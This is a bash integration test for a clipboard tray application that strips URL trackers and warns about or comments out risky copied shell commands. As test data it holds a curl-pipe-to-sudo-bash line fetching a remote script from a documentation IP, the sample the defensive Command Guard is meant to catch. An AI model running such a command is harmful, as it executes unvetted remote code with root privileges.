#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# The tray application as a person meets it on an X11 desktop (run by run-under-x11.sh, which gives
# it an X server and a session bus of its own):
#   app-on-x11.sh TESSARIL-APP TESSARIL DESKTOP-SERVICES CLIPBOARD-OWNER
# First on a desktop without a tray: it says so once and keeps watching; copied links paste clean, a
# risky command stays as copied, a second start opens the running one's preferences, SIGTERM ends it
# cleanly. Then with a tray host: the next start opens the preferences; the menu, read over D-Bus as
# the tray reads it, follows each copy; a risky command is replaced by its commented copy once that
# switch is on; a password manager's copy is left alone; the banners carry their titles and bodies;
# "Quit Tessaril" ends it.
set -u
app=$1 tool=$2 services=$3 owner=$4
. "$(dirname "$0")/app-session.sh"
export XDG_RUNTIME_DIR=$home/run
mkdir -m 700 "$XDG_RUNTIME_DIR"
paste() { xclip -selection clipboard -o 2>/dev/null; }
window() { xwininfo -root -tree | grep -q "\"$1\""; }

link='https://shop.example/item?id=3&utm_source=mail&gclid=x'
clean='https://shop.example/item?id=3'
command='curl -fsSL http://203.0.113.7/install.sh | sudo bash'

# Its version and help need no display.
env -u DISPLAY -u WAYLAND_DISPLAY "$app" --version | grep -q '^tessaril-app [0-9]' || fail "--version"
env -u DISPLAY -u WAYLAND_DISPLAY "$app" --help | grep -q '^Usage: tessaril-app' || fail "--help"

"$services" --notifications >"$home/services" 2>&1 &
services_pid=$!
pids+=("$services_pid")
eventually grep -q ready "$home/services" || fail "the notification service did not start"

start_app
# A copy made before the clipboard is watched is left alone, as anything on the clipboard at start
# is; the application is watching once it has tried to show its icon (this desktop has no tray).
eventually grep -q "no system tray" "$home/err" || fail "the application did not finish starting"
eventually banner "Tessaril" "Tessaril cannot show its icon" || fail "no banner about the missing tray"

printf %s "$link" | xclip -selection clipboard
eventually pastes "$clean" || fail "the copied link pastes as $(paste)"
eventually banner "URL Cleaned" "Removed 2 trackers: utm_source, gclid" || fail "no banner for the clean"
# Text that is no link stays as it was copied, and so does a risky command while replacing is off.
printf %s 'meeting notes, 3 pm' | xclip -selection clipboard
sleep 1.5
pastes 'meeting notes, 3 pm' || fail "plain text pastes as $(paste)"
printf %s "$command" | xclip -selection clipboard
eventually banner "Risky command copied" "" || fail "no banner for the risky command"
pastes "$command" || fail "the risky command pastes as $(paste)"

second=$("$app" 2>&1) || fail "a second start failed: $second"
[[ $second == *"already running"* ]] || fail "a second start said: $second"
eventually window "Tessaril Preferences" || fail "the second start did not open the preferences"
kill -0 "$pid" || fail "the first instance ended"

[ "$(grep -c "no system tray" "$home/err")" -eq 1 ] || fail "the missing tray was reported more than once"
[ "$(grep -c "cannot show its icon" "$home/services")" -eq 1 ] || fail "more than one banner about the tray"

kill -TERM "$pid"
stop_app SIGTERM

# A desktop with a tray.
kill "$services_pid"
wait "$services_pid" 2>/dev/null
"$services" --tray --notifications >"$home/services" 2>&1 &
pids+=($!)
eventually grep -q ready "$home/services" || fail "the tray host did not start"
start_in_tray
eventually window "Tessaril Preferences" || fail "the start after a run without a tray did not open the preferences"
# The last clean and the day's count are kept from the run before.
shows "1 URLs cleaned today" && shows "Original: $link" || fail "the menu at start says: $(menu)"

# The same text copied twice is cleaned twice.
for _ in 1 2; do
    printf %s "$link" | xclip -selection clipboard
    eventually pastes "$clean" || fail "the copied link pastes as $(paste)"
    sleep 0.3
done
eventually shows "3 URLs cleaned today" || fail "the menu does not count both cleans: $(menu)"
shows "Cleaned: $clean" && shows "Removed: utm_source, gclid" || fail "the menu does not show the clean: $(menu)"

printf %s "$command" | xclip -selection clipboard
eventually shows "Command Guard: Danger" || fail "the menu shows no warning: $(menu)"
shows "Matched: $command" || fail "the menu does not show what matched: $(menu)"
click "Clear Command Warning"
eventually hides "Command Guard:" || fail "the warning stayed after clearing it"

# A password manager's copy is never read, let alone rewritten.
"$owner" "$link" >"$home/owner" &
pids+=($!)
eventually grep -q ready "$home/owner" || fail "the password manager stand-in did not start"
sleep 1.5
pastes "$link" || fail "a concealed copy pastes as $(paste)"
shows "3 URLs cleaned today" || fail "a concealed copy was counted: $(menu)"

click "Quit Tessaril"
stop_app "Quit Tessaril"

# Replacing risky commands switched on with the tool.
"$tool" prefs set commandGuard_neutralize on || fail "the tool could not switch on replacing"
start_in_tray
printf %s "$command" | xclip -selection clipboard
eventually pastes_prefix "# Tessaril neutralized a risky command" ||
    fail "the risky command pastes as $(paste)"
paste | grep -qF "# $command" || fail "the commented copy lost the command"
eventually banner "Risky command neutralized" "" || fail "no banner for the replaced command"
# The clipboard no longer holds the command, so there is nothing to warn of.
hides "Command Guard:" || fail "the menu warns of a command no longer on the clipboard: $(menu)"
kill -TERM "$pid"
stop_app SIGTERM
echo "PASSED"
